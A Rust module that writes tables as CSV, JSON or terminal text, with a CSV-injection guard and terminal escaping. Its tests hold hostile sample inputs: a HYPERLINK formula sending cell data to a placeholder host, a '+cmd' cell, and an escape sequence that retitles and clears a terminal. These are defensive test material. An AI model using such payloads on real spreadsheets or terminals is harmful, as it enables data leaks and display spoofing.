//! Writing any table as CSV, JSON or an aligned text table, with one fixed float formatter.
//!
//! A producer implements [`Table`]: it names its columns and feeds its rows, cell by cell, to a
//! [`RowSink`]. Floats are written in the shortest form that reads back to the same `f64`
//! (`ryu`), so the same input gives the same bytes; a zero is never written `-0` in any format.
//! A missing value is empty in CSV and tables and `null` in JSON; a list is written with its
//! separator in CSV and tables and as a JSON array of its items as strings, exactly as given.
//!
//! CSV is spreadsheet-safe by default ([`CsvCells::Guarded`], OWASP's rule for CSV injection): a
//! text cell (the header's too) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
//! and is not a number gets a leading `'`, so that a spreadsheet shows it as text instead of
//! running it as a formula (`=HYPERLINK(…)` is written `'=HYPERLINK(…)`, `-12.5` stays).
//! [`CsvCells::Raw`] writes the bytes as they are. [`guard_csv_cell`] is the one rule.
//! Text in `--format table` shows control characters escaped (`\u{1b}`), never raw.

use std::borrow::Cow;
use std::fmt;
use std::io::{self, Write};
use std::str::FromStr;

/// One cell of a row.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Cell<'a> {
    /// An integer.
    Int(i64),
    /// A float, written round-trip exact; NaN is written as `nan`.
    Float(f64),
    /// Text (CSV-quoted when needed).
    Text(&'a str),
    /// No value: empty in CSV and tables, `null` in JSON.
    Missing,
    /// A list: its items, joined by the char in CSV and tables; in JSON an array of the items as
    /// strings, exactly as given (`U S` and `007` stay what they are).
    List(&'a [String], char),
}

/// Receives the rows of a table, cell by cell.
pub trait RowSink {
    /// Adds a cell to the current row.
    fn cell(&mut self, cell: Cell<'_>) -> io::Result<()>;
    /// Ends the current row.
    fn end_row(&mut self) -> io::Result<()>;
}

/// A table that can write itself.
pub trait Table {
    /// Column names, in order.
    fn columns(&self) -> Vec<&'static str>;
    /// Feeds every row, in output order.
    ///
    /// # Errors
    /// The sink's I/O errors.
    fn write_rows(&self, sink: &mut dyn RowSink) -> io::Result<()>;
}

/// An owned cell value, for small tables built row by row.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// An integer.
    Int(i64),
    /// A float.
    Float(f64),
    /// Text.
    Text(String),
    /// No value.
    Missing,
    /// A list: its items, and the char that joins them in CSV and tables.
    List(Vec<String>, char),
}

impl Value {
    /// A list of items, joined by `sep` in CSV and tables.
    pub fn list<T: fmt::Display>(items: impl IntoIterator<Item = T>, sep: char) -> Self {
        Value::List(items.into_iter().map(|item| item.to_string()).collect(), sep)
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Self {
        Value::Int(v)
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Self {
        Value::Float(v)
    }
}

impl From<String> for Value {
    fn from(v: String) -> Self {
        Value::Text(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Self {
        Value::Text(v.to_string())
    }
}

/// A small table held in memory: column names and rows of [`Value`]s.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct OwnedTable {
    /// Column names.
    pub columns: Vec<&'static str>,
    /// Rows, each as long as `columns`.
    pub rows: Vec<Vec<Value>>,
}

impl OwnedTable {
    /// An empty table with these columns.
    pub fn new(columns: &[&'static str]) -> Self {
        OwnedTable { columns: columns.to_vec(), rows: Vec::new() }
    }

    /// Appends a row.
    pub fn push(&mut self, row: Vec<Value>) {
        self.rows.push(row);
    }
}

impl Table for OwnedTable {
    fn columns(&self) -> Vec<&'static str> {
        self.columns.clone()
    }

    fn write_rows(&self, sink: &mut dyn RowSink) -> io::Result<()> {
        for row in &self.rows {
            for v in row {
                sink.cell(match v {
                    Value::Int(i) => Cell::Int(*i),
                    Value::Float(f) => Cell::Float(*f),
                    Value::Text(t) => Cell::Text(t),
                    Value::Missing => Cell::Missing,
                    Value::List(items, sep) => Cell::List(items, *sep),
                })?;
            }
            sink.end_row()?;
        }
        Ok(())
    }
}

/// How a table is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputFormat {
    /// Comma-separated values with a header line.
    Csv,
    /// A JSON array of objects, one per row.
    Json,
    /// Columns aligned with blanks, for reading in a terminal.
    Table,
}

impl OutputFormat {
    /// The name on the command line.
    pub fn name(self) -> &'static str {
        match self {
            OutputFormat::Csv => "csv",
            OutputFormat::Json => "json",
            OutputFormat::Table => "table",
        }
    }
}

impl fmt::Display for OutputFormat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for OutputFormat {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s.to_ascii_lowercase().as_str() {
            "csv" => Ok(OutputFormat::Csv),
            "json" => Ok(OutputFormat::Json),
            "table" => Ok(OutputFormat::Table),
            _ => Err(format!("unknown format {s:?}: expected csv, json or table")),
        }
    }
}

/// How CSV text cells are written.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum CsvCells {
    /// Spreadsheet-safe (the default): a text cell a spreadsheet would run as a formula gets a
    /// leading `'` ([`guard_csv_cell`]).
    #[default]
    Guarded,
    /// The bytes as they are (`--raw-csv`).
    Raw,
}

/// Whether `text` is a plain decimal number (`-12`, `+3.5`, `-1e-9`, `.5`): a spreadsheet reads
/// it as a number, so it needs no guard. `inf` and `nan` are not numbers here.
fn is_number(text: &str) -> bool {
    let b = text.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while b.get(*i).is_some_and(u8::is_ascii_digit) {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        i += usize::from(matches!(b.get(i), Some(b'+' | b'-')));
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// The spreadsheet-safe form of a CSV text cell (OWASP's rule for CSV injection): a cell that
/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return and is not a number gets a leading
/// `'`; any other cell is returned as it is.
pub fn guard_csv_cell(text: &str) -> Cow<'_, str> {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_number(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// Writes `table` to `out` in `format`, CSV spreadsheet-safe ([`CsvCells::Guarded`]).
///
/// # Errors
/// I/O errors of `out`.
pub fn write_table(table: &dyn Table, format: OutputFormat, out: &mut dyn Write) -> io::Result<()> {
    write_table_with(table, format, CsvCells::Guarded, out)
}

/// Writes `table` to `out` in `format`, CSV text cells as `cells` says.
///
/// # Errors
/// I/O errors of `out`.
pub fn write_table_with(
    table: &dyn Table,
    format: OutputFormat,
    cells: CsvCells,
    out: &mut dyn Write,
) -> io::Result<()> {
    let columns = table.columns();
    match format {
        OutputFormat::Csv => {
            let mut sink = CsvSink {
                out,
                buf: Vec::with_capacity(CsvSink::FLUSH_AT + 4096),
                cells,
                joined: String::new(),
                first: true,
                floats: ryu::Buffer::new(),
                ints: itoa::Buffer::new(),
            };
            for c in &columns {
                sink.cell(Cell::Text(c))?;
            }
            sink.end_row()?;
            table.write_rows(&mut sink)?;
            sink.out.write_all(&sink.buf)
        }
        OutputFormat::Json => {
            let mut sink = JsonSink { out, columns: &columns, col: 0, rows: 0 };
            sink.out.write_all(b"[")?;
            table.write_rows(&mut sink)?;
            sink.out.write_all(if sink.rows == 0 { b"]\n" } else { b"\n]\n" })
        }
        OutputFormat::Table => {
            let mut sink =
                TextSink { rows: vec![columns.iter().map(|c| c.to_string()).collect()], current: Vec::new() };
            table.write_rows(&mut sink)?;
            sink.finish(out)
        }
    }
}

/// Formats a float round-trip exact: `0.5`, `1e-20` → `1e-20`, integers as `3.0`, NaN as `nan`,
/// and `-0.0` as `0.0`.
pub fn format_float(v: f64, buf: &mut ryu::Buffer) -> &str {
    if v.is_nan() {
        "nan"
    } else if v == 0.0 {
        "0.0"
    } else {
        buf.format(v)
    }
}

/// Formats a float with `digits` decimals for reading (`0.333333`), never as `-0.000…`: a
/// negative number that rounds to zero is written as zero; NaN as `nan`.
pub fn format_fixed(v: f64, digits: usize) -> String {
    if v.is_nan() {
        return "nan".to_string();
    }
    let s = format!("{v:.digits$}");
    match s.strip_prefix('-') {
        Some(rest) if rest.bytes().all(|b| b == b'0' || b == b'.') => rest.to_string(),
        _ => s,
    }
}

/// CSV rows formatted into a local buffer, handed to the writer in large blocks (one dynamic
/// write per 64 KiB instead of two per cell).
struct CsvSink<'w> {
    out: &'w mut dyn Write,
    buf: Vec<u8>,
    cells: CsvCells,
    /// A list's items joined, reused from cell to cell.
    joined: String,
    first: bool,
    floats: ryu::Buffer,
    ints: itoa::Buffer,
}

impl CsvSink<'_> {
    const FLUSH_AT: usize = 1 << 16;

    /// Writes a text cell: guarded unless raw, quoted when needed.
    fn text(&mut self, t: &str) {
        let t = match self.cells {
            CsvCells::Guarded => guard_csv_cell(t),
            CsvCells::Raw => Cow::Borrowed(t),
        };
        if t.contains([',', '"', '\n', '\r']) {
            self.buf.push(b'"');
            self.buf.extend_from_slice(t.replace('"', "\"\"").as_bytes());
            self.buf.push(b'"');
        } else {
            self.buf.extend_from_slice(t.as_bytes());
        }
    }
}

/// `items` joined by `sep` into `out` (cleared first).
fn join_into(out: &mut String, items: &[String], sep: char) {
    out.clear();
    for (i, item) in items.iter().enumerate() {
        if i > 0 {
            out.push(sep);
        }
        out.push_str(item);
    }
}

/// Text for a terminal: control characters (an escape sequence's ESC, a bell, a newline) and
/// Unicode's bidirectional overrides shown escaped (`\u{1b}`), so that data cannot move the
/// cursor, retitle the window or reorder what is shown.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    let unsafe_char = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    if !text.chars().any(unsafe_char) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if unsafe_char(c) {
            out.push_str(&c.escape_unicode().to_string());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

impl RowSink for CsvSink<'_> {
    fn cell(&mut self, cell: Cell<'_>) -> io::Result<()> {
        if !self.first {
            self.buf.push(b',');
        }
        self.first = false;
        match cell {
            Cell::Int(i) => self.buf.extend_from_slice(self.ints.format(i).as_bytes()),
            Cell::Float(f) => self.buf.extend_from_slice(format_float(f, &mut self.floats).as_bytes()),
            Cell::Missing => {}
            Cell::Text(t) => self.text(t),
            Cell::List(items, sep) => {
                let mut joined = std::mem::take(&mut self.joined);
                join_into(&mut joined, items, sep);
                self.text(&joined);
                self.joined = joined;
            }
        }
        Ok(())
    }

    fn end_row(&mut self) -> io::Result<()> {
        self.first = true;
        self.buf.push(b'\n');
        if self.buf.len() >= Self::FLUSH_AT {
            self.out.write_all(&self.buf)?;
            self.buf.clear();
        }
        Ok(())
    }
}

struct JsonSink<'w, 'c> {
    out: &'w mut dyn Write,
    columns: &'c [&'static str],
    col: usize,
    rows: usize,
}

impl RowSink for JsonSink<'_, '_> {
    fn cell(&mut self, cell: Cell<'_>) -> io::Result<()> {
        let sep = if self.col == 0 {
            if self.rows == 0 {
                "\n  {"
            } else {
                ",\n  {"
            }
        } else {
            ", "
        };
        let name = self.columns.get(self.col).copied().unwrap_or("");
        write!(self.out, "{sep}\"{name}\": ")?;
        self.col += 1;
        match cell {
            Cell::Int(i) => write!(self.out, "{i}"),
            Cell::Float(f) if f.is_finite() => self.out.write_all(format_float(f, &mut ryu::Buffer::new()).as_bytes()),
            Cell::Float(_) | Cell::Missing => self.out.write_all(b"null"),
            Cell::Text(t) => {
                let quoted = serde_json::to_string(t).map_err(io::Error::other)?;
                self.out.write_all(quoted.as_bytes())
            }
            Cell::List(items, _) => {
                let text = serde_json::to_string(items).map_err(io::Error::other)?;
                self.out.write_all(text.as_bytes())
            }
        }
    }

    fn end_row(&mut self) -> io::Result<()> {
        self.col = 0;
        self.rows += 1;
        self.out.write_all(b"}")
    }
}

struct TextSink {
    rows: Vec<Vec<String>>,
    current: Vec<String>,
}

impl RowSink for TextSink {
    fn cell(&mut self, cell: Cell<'_>) -> io::Result<()> {
        self.current.push(match cell {
            Cell::Int(i) => i.to_string(),
            Cell::Float(f) => format_fixed(f, 6),
            Cell::Text(t) => terminal_safe(t).into_owned(),
            Cell::List(items, sep) => {
                let mut joined = String::new();
                join_into(&mut joined, items, sep);
                terminal_safe(&joined).into_owned()
            }
            Cell::Missing => String::new(),
        });
        Ok(())
    }

    fn end_row(&mut self) -> io::Result<()> {
        self.rows.push(std::mem::take(&mut self.current));
        Ok(())
    }
}

impl TextSink {
    fn finish(self, out: &mut dyn Write) -> io::Result<()> {
        let ncol = self.rows.iter().map(Vec::len).max().unwrap_or(0);
        let widths: Vec<usize> = (0..ncol)
            .map(|c| self.rows.iter().filter_map(|r| r.get(c)).map(|s| s.chars().count()).max().unwrap_or(0))
            .collect();
        for row in &self.rows {
            let mut line = String::new();
            for (c, cell) in row.iter().enumerate() {
                if c > 0 {
                    line.push_str("  ");
                }
                line.push_str(cell);
                if c + 1 < row.len() {
                    line.extend(std::iter::repeat_n(' ', widths[c].saturating_sub(cell.chars().count())));
                }
            }
            writeln!(out, "{line}")?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Two;
    impl Table for Two {
        fn columns(&self) -> Vec<&'static str> {
            vec!["year", "name", "x"]
        }
        fn write_rows(&self, sink: &mut dyn RowSink) -> io::Result<()> {
            for (y, n, x) in [(1816, "a,b", 0.1 + 0.2), (1817, "c", 1e-20)] {
                sink.cell(Cell::Int(y))?;
                sink.cell(Cell::Text(n))?;
                sink.cell(Cell::Float(x))?;
                sink.end_row()?;
            }
            Ok(())
        }
    }

    fn render(f: OutputFormat) -> String {
        let mut v = Vec::new();
        write_table(&Two, f, &mut v).unwrap();
        String::from_utf8(v).unwrap()
    }

    #[test]
    fn csv_quotes_and_round_trips_floats() {
        assert_eq!(render(OutputFormat::Csv), "year,name,x\n1816,\"a,b\",0.30000000000000004\n1817,c,1e-20\n");
        let back: f64 = "0.30000000000000004".parse().unwrap();
        assert_eq!(back, 0.1 + 0.2);
    }

    #[test]
    fn json_is_an_array_of_objects() {
        let v: serde_json::Value = serde_json::from_str(&render(OutputFormat::Json)).unwrap();
        assert_eq!(v[0]["name"], "a,b");
        assert_eq!(v[1]["year"], 1817);
        assert_eq!(v.as_array().unwrap().len(), 2);
    }

    /// Issue 13: no `-0` in any format, `null` for a missing value, arrays for lists.
    struct Edge;
    impl Table for Edge {
        fn columns(&self) -> Vec<&'static str> {
            vec!["zero", "tiny", "missing", "ids", "names"]
        }
        fn write_rows(&self, sink: &mut dyn RowSink) -> io::Result<()> {
            sink.cell(Cell::Float(-0.0))?;
            sink.cell(Cell::Float(-1e-9))?;
            sink.cell(Cell::Missing)?;
            sink.cell(Cell::List(&["1485".to_string(), "2015".to_string()], ';'))?;
            sink.cell(Cell::List(&["UKG".to_string(), "RUS".to_string()], ' '))?;
            sink.end_row()
        }
    }

    #[test]
    fn negative_zero_missing_values_and_lists() {
        let render = |f| {
            let mut v = Vec::new();
            write_table(&Edge, f, &mut v).unwrap();
            String::from_utf8(v).unwrap()
        };
        assert_eq!(render(OutputFormat::Csv), "zero,tiny,missing,ids,names\n0.0,-1e-9,,1485;2015,UKG RUS\n");
        assert_eq!(
            render(OutputFormat::Json),
            "[\n  {\"zero\": 0.0, \"tiny\": -1e-9, \"missing\": null, \"ids\": [\"1485\",\"2015\"], \"names\": [\"UKG\",\"RUS\"]}\n]\n"
        );
        assert_eq!(
            render(OutputFormat::Table),
            "zero      tiny      missing  ids        names\n0.000000  0.000000           1485;2015  UKG RUS\n"
        );
        assert_eq!(format_fixed(-0.0004, 3), "0.000");
        assert_eq!(format_fixed(-0.0006, 3), "-0.001");
        assert_eq!(format_float(-0.0, &mut ryu::Buffer::new()), "0.0");
    }

    #[test]
    fn text_table_aligns_columns() {
        assert_eq!(render(OutputFormat::Table), "year  name  x\n1816  a,b   0.300000\n1817  c     0.000000\n");
    }

    /// Issue 25: OWASP's rule, numbers left alone, `--raw-csv` as it is, headers guarded too.
    #[test]
    fn issue25_csv_cells_that_a_spreadsheet_would_run_get_a_quote() {
        for (cell, safe) in [
            ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
            ("@US", "'@US"),
            ("+cmd", "'+cmd"),
            ("-2+3", "'-2+3"),
            ("-", "'-"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-inf", "'-inf"),
            ("-1e", "'-1e"),
            ("-12.5", "-12.5"),
            ("+3", "+3"),
            ("-1e-9", "-1e-9"),
            ("-.5", "-.5"),
            ("USA", "USA"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(guard_csv_cell(cell), safe, "{cell:?}");
        }
        struct Hostile;
        impl Table for Hostile {
            fn columns(&self) -> Vec<&'static str> {
                vec!["=name", "list"]
            }
            fn write_rows(&self, sink: &mut dyn RowSink) -> io::Result<()> {
                sink.cell(Cell::Text("=1+1,\"x\""))?;
                sink.cell(Cell::List(&["@US".to_string(), "RUS".to_string()], ' '))?;
                sink.end_row()
            }
        }
        let render = |cells| {
            let mut v = Vec::new();
            write_table_with(&Hostile, OutputFormat::Csv, cells, &mut v).unwrap();
            String::from_utf8(v).unwrap()
        };
        assert_eq!(render(CsvCells::Guarded), "'=name,list\n\"'=1+1,\"\"x\"\"\",'@US RUS\n");
        assert_eq!(render(CsvCells::Raw), "=name,list\n\"=1+1,\"\"x\"\"\",@US RUS\n");
        // JSON is not a spreadsheet format: values as they are.
        let mut v = Vec::new();
        write_table(&Hostile, OutputFormat::Json, &mut v).unwrap();
        assert!(String::from_utf8(v).unwrap().contains(r#""list": ["@US","RUS"]"#));
    }

    /// Issue 25: list items are written as the strings they are, never re-split or re-typed.
    #[test]
    fn issue25_list_items_keep_their_spaces_and_leading_zeros() {
        let mut t = OwnedTable::new(&["partners"]);
        t.push(vec![Value::list(["U S", "007"], ' ')]);
        let mut v = Vec::new();
        write_table(&t, OutputFormat::Json, &mut v).unwrap();
        let back: serde_json::Value = serde_json::from_slice(&v).unwrap();
        assert_eq!(back[0]["partners"], serde_json::json!(["U S", "007"]));
    }

    /// Issue 25: terminal escape sequences in data are shown escaped in `--format table`.
    #[test]
    fn issue25_tables_show_control_characters_escaped() {
        let mut t = OwnedTable::new(&["name"]);
        t.push(vec!["\u{1b}]0;owned\u{7}\u{1b}[2J".into()]);
        let mut v = Vec::new();
        write_table(&t, OutputFormat::Table, &mut v).unwrap();
        let text = String::from_utf8(v).unwrap();
        assert_eq!(text, "name\n\\u{1b}]0;owned\\u{7}\\u{1b}[2J\n");
        assert!(!text.contains('\u{1b}'));
    }
}
